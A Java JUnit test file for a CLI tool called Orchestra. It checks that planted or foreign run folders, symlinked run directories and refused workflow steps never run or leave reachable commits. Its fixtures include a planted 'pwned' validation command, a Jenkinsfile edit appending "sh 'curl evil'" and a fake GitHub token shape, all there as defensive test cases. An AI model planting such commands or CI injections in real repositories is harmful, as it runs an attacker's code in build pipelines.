package dev.orchestra.cli.resilience;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.orchestra.cli.CliRunner;
import dev.orchestra.engine.json.Json;
import dev.orchestra.testsupport.GitCli;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.eclipse.jgit.api.Git;
import org.eclipse.jgit.lib.ObjectId;
import org.eclipse.jgit.lib.Ref;
import org.eclipse.jgit.revwalk.RevCommit;
import org.eclipse.jgit.revwalk.RevWalk;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Run state the repository brings, run branches moved by a human, and refused steps: a committed or foreign run
 * folder is never loaded, resumed or run; a commit made on the run branch is never lost; a refused step's commit is
 * reachable from no ref.
 */
class RunStateTest {
    static final String KEY = "the operator's run key for these tests, long enough";
    static final Reliability.Section SECTION = new Reliability.Section("run-state", "Run state, the run branch and refs",
            "held", "Run folders the repository or another user brings, commits made on the run branch while a run "
                    + "waits, and steps the policy refuses. A case holds when nothing of a foreign run folder runs (its "
                    + "validation command leaves no trace), the command says why (exit 2, one line, one JSON object under "
                    + "`--json`), a human's commit stays on its branch, and no ref reaches a refused commit.");

    @TempDir
    Path temp;

    Path repo;
    Path marker;

    @AfterAll
    static void writeCounts() {
        SECTION.write();
    }

    @BeforeEach
    void setUp() throws Exception {
        repo = Cli.repository(temp.resolve("repo"), Map.of(".gitignore", "target/\n", "README.md", "A project.\n",
                "Jenkinsfile", "pipeline { }\n"));
        marker = temp.resolve("pwned");
    }

    private static Map<String, String> env() {
        return Map.of("ORCHESTRA_RUN_KEY", KEY);
    }

    // ---- A: run folders Orchestra did not write ---------------------------------------------------------------

    /** What an attacker commits: a run that waits for nothing, past every gate, validating with their command. */
    private void plantRun(String runId, boolean commit) throws Exception {
        ObjectNode state = Json.MAPPER.createObjectNode();
        String head;
        try (Git git = Git.open(repo.toFile())) {
            head = git.getRepository().resolve("HEAD").name();
        }
        state.put("runId", runId).put("task", "x").put("baseCommit", head).put("runBranch", "main")
                .put("branchHead", head).put("candidate", head).put("validateCommand", "touch " + marker)
                .put("phase", "BASELINE").put("status", "RUNNING").put("createdAt", "2026-01-01T00:00:00Z");
        state.putArray("gates");
        state.putArray("steps");
        state.putObject("plan").put("name", "x").put("description", "x").putArray("steps");
        Cli.write(repo, ".orchestra/runs/" + runId + "/state.json", Json.MAPPER.writeValueAsString(state));
        if (commit) {
            Cli.commitAll(repo, "a run folder");
        }
    }

    @ParameterizedTest(name = "a run folder {0}")
    @ValueSource(strings = {"committed in the repository", "written by someone else"})
    void aRunFolderOrchestraDidNotWriteIsNeverResumedOrRun(String how) throws Exception {
        Reliability.Tally tally = tried("run folder " + how + ": resume, resume --run-id, status");
        plantRun("evil", how.startsWith("committed"));

        CliRunner.Result any = Cli.orchestra(env(), "resume", "--repo", repo.toString());
        CliRunner.Result named = Cli.orchestra(env(), "resume", "--repo", repo.toString(), "--run-id", "evil", "--json");
        CliRunner.Result status = Cli.orchestra(env(), "status", "--repo", repo.toString());
        CliRunner.Result jenkins = Cli.orchestra(env(), "status", "--repo", repo.toString(), "--run-id", "evil", "--json");

        assertThat(marker).as("the planted validation command never ran").doesNotExist();
        assertThat(any.exitCode()).as(any.toString()).isEqualTo(2);
        assertThat(any.err()).contains("no unfinished run", "1 run folder(s) refused");
        refusedWithJson(named, how.startsWith("committed") ? "tracks .orchestra/runs/evil/state.json"
                : "not written by Orchestra with this operator's run key");
        refusedWithJson(jenkins, "run evil refused");
        assertThat(status.exitCode()).isZero();
        assertThat(status.out()).containsPattern("evil +refused +run evil refused");
        assertThat(Cli.head(repo)).startsWith("refs/heads/main ");
        tally.held();
    }

    @Test
    void aNewRunRefusesARunFolderTheRepositoryAlreadyHolds() throws Exception {
        Reliability.Tally tally = tried("new run whose folder the repository holds (Jenkins' predictable run id)");
        Cli.write(repo, ".orchestra/runs/r1/transcript.jsonl", "{\"planted\": true}\n");
        Cli.commitAll(repo, "a planted transcript");
        List<String> before = Cli.refs(repo);

        CliRunner.Result result = Cli.orchestra(env(), "run", "--repo", repo.toString(), "--workflow",
                workflow("greet", "echo hello > greeting.txt").toString(), "--gates", "none", "--run-id", "r1", "--json");

        refusedWithJson(result, "tracks .orchestra/runs/r1/transcript.jsonl");
        assertThat(Cli.refs(repo)).isEqualTo(before);
        assertThat(repo.resolve(".orchestra/runs/r1/state.json")).doesNotExist();
        tally.held();
    }

    @Test
    void runStateIsNeverWrittenThroughALinkTheRepositoryCommitted() throws Exception {
        Reliability.Tally tally = tried("`.orchestra/runs` committed as a link to a folder elsewhere");
        Path elsewhere = Files.createDirectories(temp.resolve("elsewhere"));
        Files.createDirectories(repo.resolve(".orchestra"));
        Files.createSymbolicLink(repo.resolve(".orchestra/runs"), elsewhere);
        Cli.commitAll(repo, "a link");

        CliRunner.Result result = Cli.orchestra(env(), "run", "--repo", repo.toString(), "--workflow",
                workflow("greet", "echo hello > greeting.txt").toString(), "--gates", "none", "--run-id", "l1", "--json");

        refusedWithJson(result, ".orchestra/runs is a symbolic link");
        assertThat(elsewhere).isEmptyDirectory();
        tally.held();
    }

    @Test
    void aRunStartedWithOneRunKeyIsResumedOnlyWithTheSameKey() throws Exception {
        Reliability.Tally tally = tried("run resumed with another operator's run key (another Jenkins agent)");
        CliRunner.Result waiting = Cli.orchestra(env(), "run", "--repo", repo.toString(), "--workflow",
                workflow("greet", "echo hello > greeting.txt").toString(), "--gates", "plan", "--run-id", "k1");
        assertThat(waiting.exitCode()).as(waiting.toString()).isEqualTo(10);

        CliRunner.Result other = Cli.orchestra(Map.of("ORCHESTRA_RUN_KEY", "another agent's key, also long enough"),
                "resume", "--repo", repo.toString(), "--run-id", "k1", "--approve", "--json");
        refusedWithJson(other, "ORCHESTRA_RUN_KEY");
        CliRunner.Result same = Cli.orchestra(env(), "resume", "--repo", repo.toString(), "--run-id", "k1", "--approve");

        assertThat(same.exitCode()).as(same.toString()).isZero();
        assertThat(Cli.stepTrailers(repo, "orchestra/k1")).containsExactly("greet");
        tally.held();
    }

    // ---- F: a human's commit on the run branch ------------------------------------------------------------

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"checked out", "left alone (--leave-working-tree)"})
    void aCommitMadeOnTheRunBranchWhileTheRunWaitsIsNeverLost(String tree) throws Exception {
        Reliability.Tally tally = tried("commit on the run branch while the run waits at the patch gate, working tree " + tree);
        boolean leave = tree.startsWith("left");
        String[] start = {"run", "--repo", repo.toString(), "--workflow", workflow("greet", "echo hello > greeting.txt")
                .toString(), "--gates", "patch", "--run-id", "f1"};
        CliRunner.Result waiting = Cli.orchestra(env(), leave ? concat(start, "--leave-working-tree") : start);
        assertThat(waiting.exitCode()).as(waiting.toString()).isEqualTo(10);
        String left = GitCli.run(repo, "rev-parse", "orchestra/f1").strip();
        String mine = commitOnBranch("orchestra/f1", leave);

        CliRunner.Result refused = Cli.orchestra(env(), "resume", "--repo", repo.toString(), "--approve", "--json");

        refusedWithJson(refused, "orchestra/f1", left.substring(0, 10), mine.substring(0, 10), "git branch -f");
        assertThat(GitCli.run(repo, "rev-parse", "orchestra/f1").strip()).as("the human's commit is still there").isEqualTo(mine);
        GitCli.run(repo, "branch", "keep", mine);
        if (leave) {
            GitCli.run(repo, "branch", "-f", "orchestra/f1", left);
        } else {
            GitCli.run(repo, "reset", "-q", "--hard", left);
        }
        CliRunner.Result landed = Cli.orchestra(env(), "resume", "--repo", repo.toString(), "--approve");
        assertThat(landed.exitCode()).as(landed.toString()).isZero();
        assertThat(Cli.stepTrailers(repo, "orchestra/f1")).containsExactly("greet");
        assertThat(GitCli.run(repo, "show", "keep:mine.txt")).isEqualTo("my own work\n");
        tally.held();
    }

    /** A human's commit of {@code mine.txt} on {@code branch}; back on main afterwards when the run left the tree. */
    private String commitOnBranch(String branch, boolean backToMain) throws Exception {
        if (backToMain) {
            GitCli.run(repo, "checkout", "-q", branch);
        }
        Cli.write(repo, "mine.txt", "my own work\n");
        GitCli.run(repo, "add", "mine.txt");
        GitCli.run(repo, "-c", "user.name=Human", "-c", "user.email=human@example.invalid", "commit", "-q", "-m", "my own work");
        String commit = GitCli.run(repo, "rev-parse", "HEAD").strip();
        if (backToMain) {
            GitCli.run(repo, "checkout", "-q", "main");
        }
        return commit;
    }

    // ---- G: refused steps leave no ref --------------------------------------------------------------------

    @ParameterizedTest(name = "a step that {0}")
    @CsvSource(delimiter = '|', value = {
        "writes a token into a file | TOKEN | a GitHub token",
        "edits the Jenkinsfile | echo \"sh 'curl evil'\" >> Jenkinsfile | Jenkinsfile: protected path"})
    void aRefusedStepsCommitIsReachableFromNoRef(String attempt, String command, String reason) throws Exception {
        Reliability.Tally tally = tried("refused step (" + attempt + "): no ref reaches its commit");
        // A GitHub-token shape, put together by the shell so that no such string is stored anywhere.
        String run = command.equals("TOKEN") ? "printf 'token=%s%s\\n' gh p_FAKEfakeFAKEfake0000not0real > token.txt" : command;
        CliRunner.Result result = Cli.orchestra(env(), "run", "--repo", repo.toString(), "--workflow",
                workflow("refused", run).toString(), "--gates", "none", "--run-id", "g1");

        assertThat(result.exitCode()).as(result.toString()).isEqualTo(1);
        assertThat(result.out() + result.err()).contains(reason);
        assertThat(Cli.refs(repo)).noneMatch(ref -> ref.startsWith("refs/orchestra/g1/steps/"));
        assertThat(stepsReachableFromAnyRef()).doesNotContain("refused");
        tally.held();
    }

    /** Every {@code Orchestra-Step:} trailer of every commit any ref reaches. */
    private List<String> stepsReachableFromAnyRef() throws Exception {
        List<String> steps = new java.util.ArrayList<>();
        try (Git git = Git.open(repo.toFile()); RevWalk walk = new RevWalk(git.getRepository())) {
            for (Ref ref : git.getRepository().getRefDatabase().getRefs()) {
                ObjectId id = ref.getObjectId();
                if (id != null) {
                    walk.markStart(walk.parseCommit(id));
                }
            }
            for (RevCommit commit : walk) {
                commit.getFullMessage().lines().filter(l -> l.startsWith("Orchestra-Step:"))
                        .forEach(l -> steps.add(l.substring("Orchestra-Step:".length()).strip()));
            }
        }
        return steps;
    }

    // ---- helpers ------------------------------------------------------------------------------------------

    /** Exit 2, one {@code orchestra:} line naming {@code words}, and exactly one JSON object saying the same. */
    static void refusedWithJson(CliRunner.Result result, String... words) throws Exception {
        assertThat(result.exitCode()).as(result.toString()).isEqualTo(2);
        List<String> errors = result.err().lines().filter(l -> l.startsWith("orchestra: ")).toList();
        assertThat(errors).as(result.toString()).hasSize(1);
        assertThat(errors.get(0)).contains(words);
        assertThat(result.err()).doesNotContain("Exception", "\tat ");
        JsonNode json = BadInputsTest.oneJsonObject(result.out());
        assertThat(json.get("exitCode").asInt()).isEqualTo(2);
        assertThat(json.get("error").asText()).contains(words);
    }

    private Path workflow(String id, String command) throws Exception {
        return Files.writeString(temp.resolve("workflow-" + id + ".yml"), "name: " + id + "\ndescription: One step.\n"
                + "steps:\n  - id: " + id + "\n    agent: command\n    with:\n      run: '" + command.replace("'", "''") + "'\n");
    }

    private static String[] concat(String[] first, String... more) {
        String[] all = java.util.Arrays.copyOf(first, first.length + more.length);
        System.arraycopy(more, 0, all, first.length, more.length);
        return all;
    }

    private static Reliability.Tally tried(String what) {
        Reliability.Tally tally = SECTION.tally(what);
        tally.tried();
        return tally;
    }
}
